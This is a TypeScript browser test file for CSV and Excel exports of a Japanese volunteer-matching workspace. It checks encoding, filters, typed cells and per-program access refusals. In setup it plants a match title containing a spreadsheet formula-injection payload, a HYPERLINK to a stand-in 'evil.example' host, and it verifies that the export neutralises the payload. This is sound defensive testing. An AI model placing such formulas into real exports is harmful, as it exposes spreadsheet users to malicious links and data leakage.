/// <reference lib="dom" />
import { readFile } from 'node:fs/promises';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { Page } from 'playwright-core';
import { fitsWidth } from '../support/browser';
import { matchRequest, unique } from '../support/fixtures';
import {
  chooseLocale,
  DESKTOP,
  signedInPage,
  twoProgramScene,
  workspaceShot as shot,
} from '../support/workspace-pages';

/**
 * Downloads in real Chromium against the real stack: the match list with its filters and a program's KPIs, as CSV
 * files Excel opens with the Japanese intact (UTF-8 with a BOM), cells quoted and formulas neutralised, and as Excel
 * workbooks with the same rows in typed cells; nothing of a program the person does not cover.
 */
describe('CSV and Excel downloads from the workspace, in real Chromium', () => {
  const scene = twoProgramScene();
  const coordinator = { name: '鈴木 一郎', email: `coord.${unique('c')}@npo.example.jp`, locale: 'ja' as const };
  const tag = unique('exp');
  /** A title a spreadsheet would run as a formula, with a comma and quotes in it. */
  const formulaTitle = `=HYPERLINK("http://evil.example/?${tag}","開く"), 長野`;

  beforeAll(async () => {
    await scene.stack.createMatch({ coordinator, title: formulaTitle });
    await scene.stack.createMatch({ coordinator, title: `老舗旅館の予約サイト刷新 ${tag}` });
    await scene.stack.createMatch({ coordinator, title: '別の案件（絞り込みで外れる）' });
    // A match of another program, with the same words in its title.
    const other = await scene.stack.api.request(
      'POST',
      '/matches',
      matchRequest(scene.otherProgram, { title: `他県の案件 ${tag}` }),
    );
    expect(other.status).toBe(201);
  });

  /** Clicks the page's download link (the CSV's, or the workbook's); the file's bytes and suggested name. */
  async function download(page: Page, link = '#download'): Promise<Buffer> {
    const [file] = await Promise.all([page.waitForEvent('download'), page.locator(link).click()]);
    expect(file.suggestedFilename()).toMatch(link === '#download' ? /\.csv$/ : /\.xlsx$/);
    return readFile((await file.path())!);
  }
  const rowsOf = (bytes: Buffer) => parse(bytes, { bom: true }) as string[][];
  /** The workbook's one sheet, opened with the library that wrote it. */
  async function sheetOf(bytes: Buffer): Promise<ExcelJS.Worksheet> {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(workbook.worksheets).toHaveLength(1);
    return workbook.worksheets[0]!;
  }
  /** A sheet's rows as plain values (header first), empty cells as null. */
  function valuesOf(sheet: ExcelJS.Worksheet): unknown[][] {
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push(Array.from({ length: sheet.columnCount }, (_, i) => row.getCell(i + 1).value)));
    return rows;
  }
  /** A workbook cell as the CSV writes it: dates as YYYY-MM-DD, text that looks like a formula with its apostrophe. */
  function asCsv(value: unknown): string {
    if (value === null || value === undefined) return '';
    if (value instanceof Date) return value.toISOString().slice(0, 10);
    if (typeof value === 'string') return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
    return String(value);
  }

  it('downloads the match list with its filters, in Japanese that Excel reads, with the formula neutralised', async () => {
    const { context, page } = await signedInPage(scene.browser, scene.stack, coordinator.email);
    await page.goto(`${scene.stack.api.url}/workspace/matches?q=${encodeURIComponent(tag)}`);
    expect(await fitsWidth(page)).toBe(true);
    await shot(page, 'matches-download-ja-360');
    const bytes = await download(page);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toContain('\r\n');
    const [header, ...rows] = rowsOf(bytes);
    expect(header!.slice(0, 6)).toEqual(['ID', 'プログラム', 'プロジェクト', '地域', 'フェーズ', 'ステータス']);
    // The filter held: the two matches with the words, not the third, not the other program's.
    expect(rows.map((r) => r[2]).sort()).toEqual([`'${formulaTitle}`, `老舗旅館の予約サイト刷新 ${tag}`].sort());
    expect(rows.every((r) => r[1] === scene.stack.programId)).toBe(true);
    expect(rows[0]![3]).toBe('長野県');

    // The same rows as an Excel workbook: Japanese headers, typed cells, the header row frozen.
    const sheet = await sheetOf(await download(page, '#download-xlsx'));
    expect(sheet.name).toBe('マッチング一覧');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const [xlsxHeader, ...xlsxRows] = valuesOf(sheet);
    expect(xlsxHeader).toEqual(header);
    expect(xlsxRows.map((r) => r.map(asCsv))).toEqual(rows);
    const titled = xlsxRows.find((r) => r[2] === formulaTitle)!;
    expect(titled).toBeDefined();
    const row = sheet.getRow(xlsxRows.indexOf(titled) + 2);
    expect(row.getCell(3).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(12).type).toBe(ExcelJS.ValueType.Date);
    expect(row.getCell(12).numFmt).toBe('yyyy-mm-dd');
    expect(typeof row.getCell(14).value).toBe('number');
    expect(sheet.getColumn(3).width).toBeGreaterThan(20);
    await context.close();
  });

  it('downloads a program’s KPIs in English at desktop width; another program’s are refused', async () => {
    await chooseLocale(scene.stack, scene.manager, 'en');
    const { context, page } = await signedInPage(scene.browser, scene.stack, scene.manager, DESKTOP);
    await page.goto(`${scene.stack.api.url}/workspace/programs/${encodeURIComponent(scene.stack.programId)}`);
    await shot(page, 'program-download-en-1280');
    const [header, overall, ...rest] = rowsOf(await download(page));
    expect(header!.slice(0, 4)).toEqual(['Breakdown', 'Group', 'Matches started', 'Active']);
    // Days to kickoff with how many kickoffs it is taken over; the running matches by health band, as on the page.
    expect(header!.slice(header!.indexOf('Days to kickoff (median)'), -4)).toEqual([
      'Days to kickoff (median)',
      'Kickoffs held',
      'Open escalations',
      'Overdue escalations',
      'Mean health',
    ]);
    expect(header!.slice(-4)).toEqual([
      'Running, health: Good',
      'Running, health: Watch',
      'Running, health: At risk',
      'Running, health: Too early',
    ]);
    const running = overall!.slice(-4).map(Number);
    expect(running.reduce((a, b) => a + b, 0)).toBe(Number(overall![3]));
    expect(overall!.slice(0, 2)).toEqual(['Overall', 'ふるさと兼業 テストプログラム']);
    expect(Number(overall![2])).toBeGreaterThanOrEqual(3);
    expect(rest.some((r) => r[0] === 'Cohort' && /^\d{4}-\d{2}$/.test(r[1]!))).toBe(true);
    expect(rest.some((r) => r[0] === 'Region' && r[1] === '長野県')).toBe(true);

    // The workbook: the same rows, counts and rates as numbers (rates shown as percentages).
    const sheet = await sheetOf(await download(page, '#download-xlsx'));
    expect(sheet.name).toBe('KPIs');
    const [xlsxHeader, ...xlsxRows] = valuesOf(sheet);
    expect(xlsxHeader).toEqual(header);
    expect(xlsxRows.map((r) => r.map(asCsv))).toEqual([overall, ...rest]);
    expect(typeof xlsxRows[0]![2]).toBe('number');
    expect(sheet.getCell('H1').value).toBe('Completion rate');
    expect(sheet.getColumn(8).numFmt).toBe('0.0%');

    for (const path of [
      `/workspace/programs/${encodeURIComponent(scene.otherProgram)}/kpis.csv`,
      `/workspace/matches.csv?program=${encodeURIComponent(scene.otherProgram)}`,
      `/workspace/programs/${encodeURIComponent(scene.otherProgram)}/kpis.xlsx`,
      `/workspace/matches.xlsx?program=${encodeURIComponent(scene.otherProgram)}`,
    ]) {
      const refused = await page.goto(`${scene.stack.api.url}${path}`);
      expect(refused?.status()).toBe(403);
      expect(refused?.headers()['content-type']).toContain('text/html');
    }
    await context.close();
  });
});
